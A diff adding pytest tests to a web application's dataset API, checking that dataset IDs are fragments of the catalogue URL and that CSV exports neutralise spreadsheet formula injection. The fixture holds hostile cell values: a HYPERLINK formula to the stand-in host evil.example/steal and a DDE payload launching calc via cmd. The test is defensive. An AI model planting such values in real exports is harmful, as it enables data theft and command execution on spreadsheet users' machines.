@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+from urllib.parse import urldefrag
 
 import pytest
 from rdflib import Graph, Namespace, URIRef
@@ -13,6 +14,7 @@ from rdflib.namespace import DCAT, DCTERMS, RDF
 
 from appliance.app import DB
 from appliance.content import ItemInput, save_item
+from appliance.db import transaction
 
 BASE = "http://localhost:8080"
 VCARD = Namespace("http://www.w3.org/2006/vcard/ns#")
@@ -125,3 +127,47 @@ async def test_a_large_dataset_comes_in_pieces_without_losing_a_row(client, conn
     transaction(conn, many)
     rows = json.loads(await (await client.get("/api/v1/datasets/articles.json")).read())
     assert len(rows) == 1203 == len({row["id"] for row in rows})
+
+
+async def test_each_dataset_id_is_a_fragment_of_the_catalogue_address(client, graph):
+    raw = await (await client.get("/api/v1/datasets")).text()
+    assert "%23" not in raw
+    (catalog,) = graph.subjects(RDF.type, DCAT.Catalog)
+    assert str(catalog) == f"{BASE}/api/v1/datasets"
+    for dataset in graph.objects(catalog, DCAT.dataset):
+        name = str(graph.value(dataset, DCTERMS.identifier))
+        assert str(dataset) == f"{BASE}/api/v1/datasets#{name}"
+        # The id resolves: its document is the catalogue that describes it.
+        document, fragment = urldefrag(str(dataset))
+        assert fragment == name
+        response = await client.get(local(document))
+        assert response.status == 200
+        again = Graph()
+        again.parse(data=await response.text(), format="json-ld")
+        assert (dataset, RDF.type, DCAT.Dataset) in again
+
+
+HOSTILE = {"title": '=HYPERLINK("http://evil.example/steal","Bấm vào đây")',
+           "summary": "+cmd|' /C calc'!A0", "tags": "@SUM(1)"}
+
+
+async def test_csv_downloads_keep_formula_like_text_as_text(client, conn):
+    from appliance.content import save_section
+
+    transaction(conn, save_section, "tin-tuc", {"vi": "Tin tức"})
+    transaction(conn, lambda db: save_item(db, ItemInput(
+        kind="article", lang="vi", section_key="tin-tuc", title=HOSTILE["title"],
+        summary=HOSTILE["summary"], tags=[HOSTILE["tags"]], byline="-Minh Anh"),
+        status="published"))
+
+    raw = await (await client.get("/api/v1/datasets/articles.csv")).read()
+    (row,) = csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))
+    for column, text in HOSTILE.items():
+        assert row[column] == "'" + text  # quoted, the text kept after the quote
+    assert row["byline"] == "'-Minh Anh"
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for value in row.values())
+    assert row["id"].isdigit()  # numbers stay numbers
+    # JSON is not a spreadsheet: it keeps the text as it is.
+    (item,) = json.loads(await (await client.get("/api/v1/datasets/articles.json")).read())
+    assert item["title"] == HOSTILE["title"] and item["tags"] == [HOSTILE["tags"]]
